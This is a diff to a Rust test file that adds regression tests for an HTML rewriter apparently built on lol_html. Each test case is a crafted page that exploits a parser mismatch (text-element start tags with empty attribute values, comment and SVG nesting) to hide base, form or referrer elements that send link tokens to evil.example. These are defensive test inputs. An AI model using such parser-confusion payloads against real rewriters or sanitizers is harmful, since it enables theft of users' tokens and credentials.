@@ -398,11 +398,40 @@ fn nested_foreign_content_where_lol_html_and_browsers_part() {
         "<svg><noscript><img src=/i></noscript><form method=get><svg><noscript><img src=/i></noscript><form id=f method=post></form><meta name=referrer content=unsafe-url><form id=f method=post>",
         r#"<a href="next">n</a><svg><math><mtext><svg></svg><template><div><base href="https://evil.example/">"#,
         r#"<svg><math><mtext><svg></svg><template><div><form action="https://evil.example/"></div></template></mtext></math></svg><form method=post><input name=a></form>"#,
+        // A `<select>` in SVG is SVG to every browser: a `<template>` in its `<title>` is not
+        // in one, and stays open at `</title>` (ignored in a template). The `</template >` the
+        // rewriter wrote there closed it, and the second link, inert in the template, became
+        // a link the first one's adoption changed (`rewrite_pieces`).
+        r#"<svg><select><title><a href="<a href=" <button>go</button><template></title><a href="<noscript><iframe src="/ns.html"></iframe></noscript>"#,
     ];
     for page in pages {
         for use_get in [false, true] {
             properties::check_rewrite(page.as_bytes(), &[], use_get);
             properties::check_rewrite(page.as_bytes(), &[30, 61], use_get);
+        }
+    }
+}
+
+/// A text element's start tag whose last attribute has `=` and no value (`<title a=>`): lol_html
+/// 3 goes to the data state after it, not to the element's text state, and reads the text as
+/// markup. Found by `rewrite_html` as a link's token in script text; a `<!--` in that text
+/// hid a `<base>` from lol_html, and the links and forms after it sent the token there. Each
+/// page failed before the fix, in one chunk and cut.
+#[test]
+fn text_element_start_tags_lol_html_misreads() {
+    let pages = [
+        r#"<title a=><x><!--</title><base href="https://evil.example/">--><a href="/n">n</a>"#,
+        r#"<a href="/n">n</a><script src= ><x><!--</script><base href="//evil.example/">-->"#,
+        r#"<textarea a=><x><!--</textarea><form action="//evil.example/" method=post>--><form method=post><input name=pw></form>"#,
+        r#"<p><STYLE/a=><x><!--</style><meta name=referrer content=unsafe-url>--><a href="//evil.example/">e</a><a href="/n">n</a>"#,
+        r#"<noembed a b=><x><!--</noembed><base href="//evil.example/">--><a href="/n">n</a>"#,
+        // Followed inside a comment's quote too: the `'` there cannot hide the real tag.
+        r#"<!-- <title a='--><xmp src=><x><!--</xmp><base href="//evil.example/">-->'<a href="/n">n</a>"#,
+    ];
+    for page in pages {
+        for use_get in [false, true] {
+            properties::check_rewrite(page.as_bytes(), &[], use_get);
+            properties::check_rewrite(page.as_bytes(), &[7, 12, 40], use_get);
         }
     }
 }
